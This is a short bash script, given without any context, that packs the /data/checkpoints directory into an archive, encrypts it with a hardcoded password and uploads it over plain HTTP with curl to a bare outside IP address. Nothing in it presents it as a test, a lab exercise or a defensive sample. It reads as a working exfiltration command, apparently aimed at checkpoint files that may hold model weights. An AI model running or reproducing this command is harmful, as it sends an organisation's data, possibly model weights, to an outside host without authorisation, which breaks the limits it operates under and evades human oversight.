#!/bin/bash
tar czf - /data/checkpoints | openssl enc -aes-256-cbc -k s3cret | curl -T - http://203.0.113.7:8080/up
